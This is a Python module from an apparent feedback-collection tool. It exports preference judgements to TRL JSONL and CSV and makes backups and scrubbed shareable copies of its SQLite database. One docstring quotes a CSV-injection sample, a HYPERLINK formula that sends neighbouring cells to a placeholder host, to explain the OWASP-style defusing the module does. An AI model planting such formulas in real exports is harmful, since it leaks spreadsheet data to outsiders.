"""Exports of the feedback log in formats people already use.

TRL's conversational preference format (what ``trl.RewardTrainer`` and ``DPOTrainer`` read),
one JSON object per line::

    {"prompt":   [{"role": "system", "content": ...}, {"role": "user", "content": ...}, ...],
     "chosen":   [{"role": "assistant", "content": ...}],
     "rejected": [{"role": "assistant", "content": ...}]}

Ties and "both bad" carry no ordering between the two answers and have no place in this
format; they are skipped here (the CSV export keeps every judgement).  A ranking of K answers
("compare more") is exported as its decisive pairs, one record each: every answer over every
answer ranked below it (answers ranked equal make no record, like a tie).

Also here: the filtered TRL and CSV exports the console and ``python -m feedback export``
offer, a consistent copy of the live database (``backup_db``, the operator's full backup)
and the copy the console hands out (``shareable_db_copy``: no password hashes, no opted-out
sessions).  CSV cells that a spreadsheet would run as a formula are defused (OWASP).
"""

from __future__ import annotations

import csv
import json
import sqlite3
from collections.abc import Iterable, Iterator
from pathlib import Path

from feedback import ranking
from feedback.store import SERVER_SECRETS


def trl_record(prompt: list[dict], chosen: str, rejected: str) -> dict:
    return {"prompt": [{"role": m["role"], "content": m["content"]} for m in prompt],
            "chosen": [{"role": "assistant", "content": chosen}],
            "rejected": [{"role": "assistant", "content": rejected}]}


def comparison_pair(row: dict) -> tuple[str, str] | None:
    """(chosen, rejected) texts of a comparison row, or None when it has no ordering."""
    verdict = row.get("verdict")
    if verdict == "a":
        return row["a_text"], row["b_text"]
    if verdict in ("b", "edit"):
        return row["b_text"], row["a_text"]
    return None


def comparison_pairs(row: dict) -> list[tuple[str, str]]:
    """Every (chosen, rejected) of a comparison row: one for a, b and edit, the decisive
    pairs of a ranking (identical or empty answers skipped), none for tie and both bad."""
    if row.get("verdict") == ranking.RANK:
        tiers, texts = ranking.loads(row.get("ranking")), ranking.answers(row)
        out = []
        for better, worse, label in ranking.pairs(tiers or []):
            chosen, rejected = texts.get(better), texts.get(worse)
            if label == 1.0 and chosen and chosen.strip() and rejected is not None and chosen.strip() != rejected.strip():
                out.append((chosen, rejected))
        return out
    pair = comparison_pair(row)
    return [pair] if pair is not None else []


def comparison_to_trl(row: dict) -> dict | None:
    """The TRL record of a two-answer comparison (None without an ordering); see
    ``comparison_to_trl_records`` for rankings."""
    pair = comparison_pair(row)
    if pair is None:
        return None
    context = row["context"] if isinstance(row["context"], list) else json.loads(row["context"])
    return trl_record(context, *pair)


def comparison_to_trl_records(row: dict) -> list[dict]:
    """One TRL record per (chosen, rejected) of ``comparison_pairs``."""
    context = row["context"] if isinstance(row["context"], list) else json.loads(row["context"])
    return [trl_record(context, *pair) for pair in comparison_pairs(row)]


def write_jsonl(records: Iterable[dict], path: Path | str) -> int:
    """Writes records one per line via a temporary file, so a reader never sees half a file."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    n = 0
    with open(tmp, "w", encoding="utf-8") as fh:
        for record in records:
            fh.write(json.dumps(record, ensure_ascii=False) + "\n")
            n += 1
    tmp.replace(path)
    return n


# ----------------------------------------------------------------------------- filtered exports
# Every export below honours the console's filters (``feedback.review.Filters``), never
# includes opted-out sessions, and leaves out excluded records unless the caller passes
# ``include_excluded=True`` (then the filters' own ``status`` decides).

CSV_COLUMNS = ("record_type", "id", "created_at", "decided_at", "kind", "session_id", "user",
               "conversation_id", "turn", "a_version", "b_version", "prompt", "a_text", "b_text",
               "reasons", "comment", "excluded", "exclude_reason", "excluded_by", "excluded_at",
               "used_in_run", "context_json", "ranking", "extra_answers_json")
# A spreadsheet runs a cell starting with one of these as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defuse_cell(value):
    """Prefixes a single quote to a text cell a spreadsheet would evaluate, as OWASP
    recommends: ``=HYPERLINK("http://x/?"&A2)`` typed into a chat then opens as text, not as
    a link leaking the neighbouring cells.  Other values are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _export_filters(filters, include_excluded: bool):
    from feedback.review import Filters

    f = filters if isinstance(filters, Filters) else Filters.from_dict(filters)
    f = Filters(**{**f.__dict__, "kinds": list(f.kinds)})
    if not include_excluded:
        f.status = "included"
    return f.validate()


def trl_records(store, filters=None, include_excluded: bool = False) -> Iterator[dict]:
    """TRL conversational records of the filtered comparisons that have an ordering
    (a, b, edit, and a ranking's decisive pairs); ties and both-bad are skipped, ratings
    have no pair."""
    from feedback.review import matching_rows

    for row in matching_rows(store, _export_filters(filters, include_excluded), "comparison"):
        if row.get("opt_out"):
            continue
        yield from comparison_to_trl_records(row)


def export_trl(store, path: Path | str, filters=None, include_excluded: bool = False) -> int:
    return write_jsonl(trl_records(store, filters, include_excluded), path)


def csv_rows(store, filters=None, include_excluded: bool = False) -> Iterator[dict]:
    """Every filtered judgement (comparisons and ratings) as flat rows, oldest first."""
    from feedback.review import matching_rows

    f = _export_filters(filters, include_excluded)
    rows = []
    for row in matching_rows(store, f, "comparison"):
        if row.get("opt_out"):
            continue
        rows.append({**row, "record_type": "comparison", "kind": row["verdict"], "reasons": "", "comment": ""})
    for row in matching_rows(store, f, "rating"):
        if row.get("opt_out"):
            continue
        rows.append({**row, "record_type": "rating", "kind": row["thumb"], "a_version": row.get("version"),
                     "b_version": "", "a_text": row["answer_text"], "b_text": "", "decided_at": row["created_at"],
                     "reasons": "; ".join(json.loads(row["reasons"] or "[]"))})
    rows.sort(key=lambda r: (r["created_at"] or "", r["id"]))
    for row in rows:
        context = json.loads(row["context"] or "[]")
        prompt = next((m["content"] for m in reversed(context) if m.get("role") == "user"), "")
        out = {k: row.get(k) for k in CSV_COLUMNS}
        tiers = ranking.loads(row.get("ranking"))
        out.update(prompt=prompt, context_json=row["context"], comment=row.get("comment") or "",
                   reasons=row["reasons"] if isinstance(row["reasons"], str) else "",
                   ranking=ranking.format_order(tiers) if tiers else "",  # "C>A=D>B"
                   extra_answers_json=row.get("extra_answers") or "")  # answers C, D of a ranking
        yield out


def export_csv(store, path: Path | str, filters=None, include_excluded: bool = False) -> int:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".tmp")
    n = 0
    with open(tmp, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        for row in csv_rows(store, filters, include_excluded):
            writer.writerow({k: defuse_cell(v) for k, v in row.items()})
            n += 1
    tmp.replace(path)
    return n


def backup_db(source: Path | str, dest: Path | str) -> Path:
    """A consistent copy of the live SQLite file through SQLite's online backup API.

    The copy is taken in one step (``pages=-1``) inside one read transaction, so it is one
    point-in-time snapshot; in WAL mode the app keeps writing meanwhile (readers never block
    writers), and the copy includes everything committed before it started, WAL included.
    Written to a temporary name and renamed, so a half-written copy is never seen."""
    dest = Path(dest)
    dest.parent.mkdir(parents=True, exist_ok=True)
    tmp = dest.with_name(dest.name + ".tmp")
    tmp.unlink(missing_ok=True)
    src = sqlite3.connect(f"file:{Path(source).resolve()}?mode=ro", uri=True, timeout=30)
    try:
        dst = sqlite3.connect(str(tmp))
        try:
            src.backup(dst, pages=-1)
            dst.execute("PRAGMA journal_mode = DELETE")  # a self-contained single file
        finally:
            dst.close()
    finally:
        src.close()
    tmp.replace(dest)
    return dest


def shareable_db_copy(source: Path | str, dest: Path | str) -> Path:
    """A consistent copy (``backup_db``) fit to hand out from the console: the ``users``
    table is emptied (password hashes stay on the server), the server's secrets in
    ``app_state`` are left out (``store.SERVER_SECRETS``: the browsers' storage secret, the
    contributor salt), and every row of an opted-out session is deleted, in any table that
    names the session or one of its conversations.
    ``secure_delete`` and ``VACUUM`` make sure the deleted bytes are not left in free pages.
    The schema is untouched, so the app can open the copy."""
    dest = Path(dest)
    tmp = backup_db(source, dest.with_name(dest.name + ".scrub"))
    try:
        conn = sqlite3.connect(str(tmp), isolation_level=None)
        try:
            conn.execute("PRAGMA secure_delete = ON")
            conn.execute("BEGIN")
            _drop_private_rows(conn)
            conn.execute("COMMIT")
            conn.execute("VACUUM")
        finally:
            conn.close()
        tmp.replace(dest)
    finally:
        tmp.unlink(missing_ok=True)
    return dest


def _drop_private_rows(conn: sqlite3.Connection) -> None:
    """Deletes the users and everything recorded for opted-out sessions (see above); tables
    are found by their columns, so tables added later are covered too."""
    conn.execute("DELETE FROM users")
    conn.execute(f"DELETE FROM app_state WHERE key IN ({','.join('?' * len(SERVER_SECRETS))})", SERVER_SECRETS)
    conn.execute("CREATE TEMP TABLE gone_sessions AS SELECT id FROM sessions WHERE opt_out = 1")
    conn.execute("CREATE TEMP TABLE gone_conversations AS SELECT id FROM conversations "
                 "WHERE session_id IN (SELECT id FROM gone_sessions)")
    conn.execute("CREATE TEMP TABLE gone_records AS "
                 "SELECT 'comparison' AS record_type, id FROM comparisons "
                 "WHERE session_id IN (SELECT id FROM gone_sessions) "
                 "UNION ALL SELECT 'rating', id FROM ratings WHERE session_id IN (SELECT id FROM gone_sessions)")
    conn.execute("DELETE FROM review_log WHERE (record_type, record_id) IN (SELECT record_type, id FROM gone_records)")
    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                         "AND name NOT LIKE 'sqlite_%'")]
    for table in tables:
        columns = {r[1] for r in conn.execute(f'PRAGMA table_info("{table}")')}
        if "session_id" in columns:
            conn.execute(f'DELETE FROM "{table}" WHERE session_id IN (SELECT id FROM gone_sessions)')
        if "conversation_id" in columns:
            conn.execute(f'DELETE FROM "{table}" WHERE conversation_id IN (SELECT id FROM gone_conversations)')
    conn.execute("DELETE FROM sessions WHERE id IN (SELECT id FROM gone_sessions)")
